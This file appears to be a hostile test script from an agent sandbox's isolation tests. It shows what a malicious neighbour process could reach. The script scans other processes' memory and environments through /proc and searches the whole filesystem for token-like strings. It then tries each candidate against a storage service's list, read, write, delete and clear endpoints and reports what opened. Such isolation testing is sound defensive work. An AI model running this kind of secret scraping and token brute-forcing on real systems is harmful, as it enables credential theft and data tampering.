// What a hostile script does beside an agent: it looks for whatever opens the store, in all memory, environments and files that it can read, and
// tries it.
import { closeSync, openSync, readdirSync, readFileSync, readSync, statSync } from 'node:fs'
import { join } from 'node:path'

const PASS = /tpi-[a-z0-9-]+\/[a-z0-9-]+\/\d+\/[0-9a-f]{64}/g
/** A store's key looks like this, and so does every digest: all are tried. */
const WORD = /(?<![0-9a-f])[0-9a-f]{64}(?![0-9a-f])/g
const CALLERS = process.env.SOUGHT ? [Buffer.from(process.env.SOUGHT, 'base64').toString()] : []
const MOST = 64 << 20

const passes = new Set()
const words = new Set()
const callers = new Set()
const denied = []
const read = []

function search(bytes, where) {
  const text = bytes.toString('latin1')
  for (const [pass] of text.matchAll(PASS)) passes.add(pass)
  for (const [word] of text.matchAll(WORD)) words.add(word)
  for (const secret of CALLERS) if (text.includes(secret)) callers.add(where)
}

function memoryOf(pid) {
  const memory = openSync(`/proc/${pid}/mem`, 'r')
  try {
    for (const line of readFileSync(`/proc/${pid}/maps`, 'latin1').split('\n')) {
      const [, from, to] = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line) ?? []
      if (from === undefined) continue
      const [start, end] = [Number.parseInt(from, 16), Number.parseInt(to, 16)]
      for (let at = start; at < end; at += MOST) {
        const piece = Buffer.alloc(Math.min(MOST, end - at))
        try {
          readSync(memory, piece, 0, piece.length, at)
          search(piece, `memory of ${pid}`)
        } catch {
          // Reserved, but never used.
        }
      }
    }
  } finally {
    closeSync(memory)
  }
}

for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name) && Number(name) !== process.pid)) {
  const command = readFileSync(`/proc/${pid}/cmdline`, 'latin1').replaceAll('\0', ' ').trim()
  const looks = {
    memory: () => memoryOf(pid),
    environment: () => search(readFileSync(`/proc/${pid}/environ`), `environment of ${pid}`),
  }
  for (const [what, look] of Object.entries(looks)) {
    try {
      look()
      read.push(`${what}: ${command}`)
    } catch {
      denied.push(`${what}: ${command}`)
    }
  }
}

function files(folder, depth = 0) {
  for (const entry of readdirSync(folder, { withFileTypes: true })) {
    const path = join(folder, entry.name)
    try {
      if (entry.isDirectory() && depth < 8 && !/^\/(proc|sys|dev)$/.test(path)) files(path, depth + 1)
      else if (entry.isFile() && statSync(path).size < MOST && !path.endsWith('attacker.mjs')) search(readFileSync(path), path)
    } catch {
      // Not readable.
    }
  }
}
files('/')

const { store, id, incarnation, index } = JSON.parse(readFileSync('/tpi-home/machine.json', 'utf8'))
const root = `${id}/${incarnation}/`
const other = `${root}slots/${1 - index}/`
const key = (text) => Buffer.from(text).toString('base64url')

const TRIES = [
  ['GET', `list?prefix=${key('')}`],
  ['GET', `list?prefix=${key(root)}`],
  ['GET', `list?prefix=${key(other)}`],
  ['GET', `object?key=${key(`${other}log/000001-0000000000`)}`],
  ['GET', `object?key=${key(`${root}secrets/once/${1 - index}-0`)}`],
  ['GET', `object?key=${key(`${root}secrets/once/${index}-0`)}`],
  ['PUT', `object?key=${key(`${root}control.json`)}`, '{}'],
  ['PUT', `object?key=${key(`${root}spec.json`)}`, '{}'],
  ['PUT', `object?key=${key(`${id}/current.json`)}`, '{}'],
  ['PUT', `object?key=${key(`${other}slot.json`)}`, '{}'],
  ['PUT', `object?key=${key(`${other}log/000009-0000000000`)}`, 'forged'],
  ['PUT', `object?key=${key(`${root}base/forged`)}`, 'forged'],
  ['PUT', `object?key=${key(`${root}collected.json`)}`, '{}'],
  ['POST', 'remove', JSON.stringify([`${other}slot.json`])],
  ['POST', 'remove', JSON.stringify([`${root}secrets/env.json`])],
  ['POST', `clear?prefix=${key(root)}`],
  ['POST', `clear?prefix=${key(other)}`],
  ['POST', `init?prefix=${key(`${id}/another/`)}`],
  ['POST', 'watch', JSON.stringify([{ record: `${other}slot.json`, folder: `${other}log/` }])],
]
const OWN = ['GET', `list?prefix=${key(`${root}slots/${index}/`)}`]

async function opens(token, [method, path, body]) {
  try {
    const answer = await fetch(`${store.url}/${path}`, { method, headers: { 'x-tpi-token': token }, ...(body && { body }) })
    const text = path === 'watch' ? await firstOf(answer) : await answer.text()
    return answer.ok && text !== undefined
  } catch {
    return false
  }
}

/** A watch begins with a heartbeat, whatever the token allows. */
async function firstOf(answer) {
  let text = ''
  for await (const piece of answer.body ?? []) {
    text += Buffer.from(piece).toString('latin1')
    if (text.trim() !== '') return text
  }
  return undefined
}

const forged = [...passes].map((pass) => pass.replace(`/${index}/`, `/${1 - index}/`))
const opened = []
let own = 0
for (const token of [...passes, ...words, ...forged]) {
  if (await opens(token, OWN)) own += 1
  // A digest that does not open even the own slot opens nothing else.
  else if (words.has(token)) continue
  for (const attempt of TRIES) if (await opens(token, attempt)) opened.push(attempt.slice(0, 2).join(' '))
}
const { length: tries } = TRIES
console.log(
  `ATTACK ${JSON.stringify({ uid: process.getuid(), passes: passes.size, words: words.size, own, tries, opened, callers: [...callers], read, denied })}`,
)
